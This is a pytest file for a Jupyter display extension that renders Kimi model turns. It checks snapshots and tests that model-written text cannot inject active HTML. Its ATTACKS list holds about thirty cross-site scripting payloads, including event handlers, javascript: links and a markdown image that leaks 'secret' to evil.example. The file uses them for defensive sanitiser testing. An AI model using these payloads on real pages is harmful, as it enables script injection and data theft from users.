"""The frozen record. ``UPDATE_RECORDS=1 pytest`` writes the snapshots anew."""

from __future__ import annotations

import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kimi_magic.core.errors import KeyRefused, TurnInterrupted
from kimi_magic.core.events import (
    ContentDelta,
    Envelope,
    Event,
    Notice,
    ReasoningDelta,
    Replayed,
    RequestStarted,
    Retrying,
    StepFinished,
    ToolCallDelta,
    ToolCallStarted,
    ToolFinished,
    ToolStarted,
    TurnFinished,
    TurnStarted,
)
from kimi_magic.core.messages import Step, ToolCall, ToolResult, Usage, as_reasoning
from kimi_magic.core.reply import Reply
from kimi_magic.core.sent import Attached, Sent
from kimi_magic.display.record import Bundle, RecordView, make_record, record_of
from kimi_magic.display.timeline import Timeline
from kimi_magic.display.view import ViewOptions
from tests.turns import OPENING, make_reply, pieces

RECORDS = Path(__file__).parents[1] / "records"
USAGE = Usage(1200, 345, 300, 0, 1, 12.5)
ANSWER = """\
**9.9** is the bigger one, because $9.9 = 9.90 > 9.11$.

| number | tenths |
|:-------|-------:|
| 9.9    | 9      |

```python
print(max(9.11, 9.9))  # 9.9
```
"""


def finished(text: str = "x", **facts: object) -> TurnFinished:
    reply = {"finish_reason": "stop", "model": "kimi-k2-thinking", "chat": "main", "usage": USAGE}
    return TurnFinished(make_reply(text, **(reply | facts)))  # type: ignore[arg-type]


def record(*events: Event, options: ViewOptions | None = None) -> Bundle:
    options = options or ViewOptions()
    timeline = Timeline(hide_reasoning=options.hide_reasoning)
    for event in events:
        timeline.apply(event)
    timeline.end()
    return make_record(timeline, options)


def answer(text: str, options: ViewOptions | None = None) -> Bundle:
    return record(*OPENING, ContentDelta(text), finished(text), options=options)


FORECAST = ToolCall("functions.forecast:0", "forecast", '{"month": "April"}')
FORECASTED = ToolResult("forecast", "430", call_id=FORECAST.id, recorded=True)
FIRST = Step(
    "", as_reasoning("I need a forecast.") or (), tool_calls=(FORECAST,), tool_results=(FORECASTED,)
)
SENT = Sent(
    *(12, 1389, 10, ("forecast",)),
    (
        Attached("variable", "df", 10, 500, personal=(("e-mail", "e-mail addresses"),)),
        Attached("variable", "<b>other</b>", note="types only"),
        Attached("cell", "In[8]", note="with its traceback"),
    ),
)
LABEL = "lesson.tape, scripted, inputs differ"
TURNS: dict[str, tuple[tuple[Event, ...], ViewOptions]] = {
    "answer": (
        (*OPENING, ReasoningDelta("Compare\nthe tenths."), ContentDelta(ANSWER), finished()),
        ViewOptions(),
    ),
    "practice": (
        (
            TurnStarted("qwen3-0.6b", "local", practice=True),
            Notice("Set KIMI_API_KEY to ask Kimi."),
            RequestStarted(1),
            ContentDelta("Hello."),
            finished(),
        ),
        ViewOptions(usage=True),
    ),
    "steps": (
        (
            *OPENING,
            Retrying("The server is busy (429).", 2.0, 1, 3),
            RequestStarted(1, 2),
            ReasoningDelta("I need a forecast."),
            ToolCallStarted(0, "forecast"),
            ToolCallDelta(0, '{"month": "April"}'),
            StepFinished(Step()),
            RequestStarted(2),
            ReasoningDelta("Now I know."),
            ContentDelta("It rises"),
            finished(finish_reason="length", steps=(Step(), Step())),
        ),
        ViewOptions(),
    ),
    "sent": (
        (
            OPENING[0],
            RequestStarted(1, 1, SENT),
            ReasoningDelta("Look at df."),
            ContentDelta("It falls."),
            finished("It falls."),
        ),
        ViewOptions(),
    ),
    "stopped": (
        (*OPENING, ReasoningDelta("I was"), finished(error=TurnInterrupted("Stopped."))),
        ViewOptions(),
    ),
    "failed": (
        (*OPENING, finished(error=KeyRefused("The key was refused (401).\nSet another."))),
        ViewOptions(),
    ),
    "replayed": (
        (
            *OPENING,
            Replayed("lesson.tape", "scripted"),
            ReasoningDelta("I need a forecast."),
            ToolStarted(0, FORECAST),
            ToolFinished(0, FORECASTED),
            StepFinished(FIRST),
            RequestStarted(2),
            Replayed("lesson.tape", "scripted", differs=True),
            ContentDelta("It rises."),
            finished("It rises.", replayed=LABEL, steps=(FIRST, Step("It rises."))),
        ),
        ViewOptions(usage=True),
    ),
    "text": (
        (*OPENING, ReasoningDelta("hm"), ContentDelta("*plain* <b>\n  text"), finished()),
        ViewOptions(format="text", hide_reasoning=True),
    ),
}


@pytest.mark.parametrize("name", TURNS)
def test_the_html_is_as_recorded(name: str) -> None:
    events, options = TURNS[name]
    html = record(*events, options=options).data["text/html"] + "\n"
    path = RECORDS / f"{name}.html"
    if os.environ.get("UPDATE_RECORDS"):
        path.write_text(html, encoding="utf-8")
    assert html == path.read_text(encoding="utf-8"), f"see the docstring to renew {path.name}"


def test_every_snapshot_belongs_to_a_turn() -> None:
    assert {path.stem for path in RECORDS.iterdir()} == set(TURNS)


def test_a_replayed_turn_looks_the_same_when_it_is_opened_again() -> None:
    events, options = TURNS["replayed"]
    lived = record(*events, options=options)
    finish = events[-1]
    assert isinstance(finish, TurnFinished)
    stored = Reply.from_dict(json.loads(json.dumps(finish.reply.to_dict())))
    again = record_of(stored, options)
    assert again.data == lived.data
    text = lived.data["text/plain"]
    assert f"tape {LABEL}" in text
    assert "· recorded" in text
    assert "Tool call (✓ done, recorded result): forecast(" in text
    assert lived.metadata["kimi_magic"]["replayed"] == LABEL


@pytest.mark.parametrize(
    "name",
    [
        'a"><script>pwn()</script>.tape',
        "x" * 5000,
        "\x1b[2Ja\u202e.tape\nModel: kimi",
        ", inputs differ",
        "lesson, scripted",
        "",
    ],
)
def test_the_name_of_a_tape_hides_nothing(name: str) -> None:
    event = Replayed(name, "scripted", differs=True)
    bundle = record(*OPENING, event, ContentDelta("x"), finished(replayed=event.label))
    assert "<script" not in bundle.data["text/html"]
    for shown in (bundle.data["text/html"], bundle.data["text/plain"]):
        assert ", scripted, inputs differ" in shown, "a long name does not push it out of sight"
        assert not set(shown) & set("\x1b\u202e")
    assert bundle.data["text/plain"].splitlines()[-1].startswith("— kimi-k2-thinking · tape ")
    again = record_of(finished(replayed=event.label).reply)
    assert again.data["text/plain"] == bundle.data["text/plain"]


ATTACKS = [
    "<script>pwn()</script>",
    "<img src=x onerror=pwn()>",
    "<svg onload=pwn()><script>pwn()</script></svg>",
    "<iframe srcdoc='<script>pwn()</script>'></iframe>",
    "<details open ontoggle=pwn()>",
    "</pre></div></details><script>pwn()</script>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0'>over</div>",
    "<div class='jp-Dialog' id='main'>x</div>",
    "<button data-commandlinker-command='runmenu:run-all'>x</button>",
    "<a href='javascript:pwn()'>x</a>",
    "<math><mtext><table><mglyph><style><!--</style><img onerror=pwn() src>",
    "[x](javascript:pwn())",
    "[x](JaVaScRiPt:pwn())",
    "[x](&#106;avascript:pwn())",
    "[x](java\nscript:pwn())",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:pwn)",
    "<javascript:pwn()>",
    '[x](https://a.b "onmouseover=pwn()")',
    "[x](https://a.b/\"onmouseover='pwn()')",
    '![x](https://evil.example/?q=secret "t")',
    "![x](data:image/svg+xml,<svg/onload=pwn()>)",
    "![x][r]\n\n[r]: https://evil.example/i.png",
    "```<script>\n</code></pre><script>pwn()</script>\n```",
    '```python\n"""</span></pre><script>pwn()</script>"""\n```',
    "`</code><script>pwn()</script>`",
    "$</span><script>pwn()</script>$",
    "$$\n</p><img src=x onerror=pwn()>\n$$",
    r"$\href{javascript:pwn()}{x}$",
    "| <img src=x onerror=pwn()> |\n|---|\n| </table><script>pwn()</script> |",
    "# <b onclick=pwn()>x</b>",
]

SAFE_TAGS = re.compile(
    "a|blockquote|br|code|details|div|em|h[1-6]|hr|li|ol|p|pre|s|span|strong|summary|sup|table|tbody"
    "|td|th|thead|tr|ul"
)
SAFE_STYLE = re.compile(
    r"(?:[a-z-]+: ?(?:#[0-9a-f]{6}|[\w.% -]+|[\d.]+px solid (?:#[0-9a-f]{6}|rgba\([\d.,]+\))"
    r"|rgba\([\d.,]+\)|color-mix\(in srgb,currentcolor 45%,#[0-9a-f]{6}\)"
    r"|var\(--jp-[a-z-]+,monospace\));?)+"
)


class Inspector(HTMLParser):
    """Reads a record as a browser does, and finds what has no place there."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.faults: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in {"hr", "br"}:
            self.open.append(tag)
        if not SAFE_TAGS.fullmatch(tag):
            self.faults.append(tag)
        for name, value in attrs:
            safe = {
                "style": bool(SAFE_STYLE.fullmatch(value or "")) and "position" not in str(value),
                "href": tag == "a" and str(value).startswith(("http://", "https://", "mailto:")),
                "rel": value == "noopener noreferrer",
                "start": tag == "ol",
                "tabindex": value == "0",
            }
            if not safe.get(name):
                self.faults.append(f"{tag} {name}={value}")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.faults.append(f"/{tag}")

    def handle_data(self, data: str) -> None:
        self.text += data


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    assert not inspector.faults
    assert not inspector.open
    return inspector


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("form", ["markdown", "text"])
def test_nothing_that_a_model_writes_acts(attack: str, form: str) -> None:
    options = ViewOptions(format="markdown" if form == "markdown" else "text")
    bundle = record(
        TurnStarted(attack, attack),
        Notice(attack),
        RequestStarted(1),
        Retrying(attack, 1.0, 1, 1),
        ReasoningDelta(attack),
        ToolCallStarted(0, attack),
        ToolCallDelta(0, attack),
        ContentDelta(attack),
        finished(error=KeyRefused(attack)),
        options=options,
    )
    seen = inspect(bundle.data["text/html"])
    assert seen.text.count("pwn") >= attack.count("pwn") * 5, "what was written is shown"
    assert set(bundle.data) == {"text/plain", "text/html"}


@given(st.text(alphabet="<>/\"'&;:=abc!-[](){}$`*\\ \n"))
def test_any_text_stays_inside(text: str) -> None:
    inspect(record(*OPENING, ReasoningDelta(text), ContentDelta(text)).data["text/html"])


@given(st.text(max_size=60), st.lists(st.integers(0, 100)))
def test_any_split_gives_the_same_record(text: str, cuts: list[int]) -> None:
    parts = pieces(text, cuts)
    whole = record(*OPENING, ReasoningDelta(text), ContentDelta(text), finished())
    split = record(*OPENING, *map(ReasoningDelta, parts), *map(ContentDelta, parts), finished())
    assert split == whole


def test_the_transcript_reads_without_html() -> None:
    events, options = TURNS["steps"]
    assert record(*events, options=options).data["text/plain"] == (
        "Reasoning:\nI need a forecast.\n\n"
        'Tool call: forecast(month="April")\n\n'
        "Reasoning:\nNow I know.\n\n"
        "It rises\n\n"
        "[The answer was cut at max_tokens; raise it with --max-tokens. "
        "(%kimi continue goes on.)]\n\n"
        "— kimi-k2-thinking"
    )


def test_hidden_reasoning_is_nowhere() -> None:
    events = (*OPENING, ReasoningDelta("secret thought"), ContentDelta("yes"), finished())
    bundle = record(*events, options=ViewOptions(hide_reasoning=True))
    assert "secret" not in json.dumps(bundle)
    assert "Reasoning" not in json.dumps(bundle)


def test_times_are_in_the_metadata_alone() -> None:
    bundle = answer("yes", ViewOptions(usage=True, times=True))
    facts = bundle.metadata["kimi_magic"]
    assert facts["usage"]["seconds"] == 12.5
    assert facts["chat"] == "main"
    assert facts["endpoint"] == "moonshot"
    assert "1,200 tokens in · 345 out (300 reasoning) · 1 request</div>" in bundle.data["text/html"]
    assert "12.5" not in json.dumps(bundle.data)
    steady = answer("yes")
    assert "1,200" not in json.dumps(steady.data)
    assert "12.5" not in json.dumps(steady)
    counted = ["prompt_tokens", "completion_tokens", "reasoning_tokens"]
    assert list(steady.metadata["kimi_magic"]["usage"]) == counted
    json.dumps(bundle.metadata)


def test_without_a_shell_the_transcript_is_printed(capsys: pytest.CaptureFixture[str]) -> None:
    view = RecordView(ViewOptions())
    for event in (*OPENING, ContentDelta("yes"), finished()):
        view.handle(Envelope(0.0, event))
        view.tick()
    assert capsys.readouterr().out == ""
    view.close()
    assert capsys.readouterr().out == "yes\n\n— kimi-k2-thinking\n"
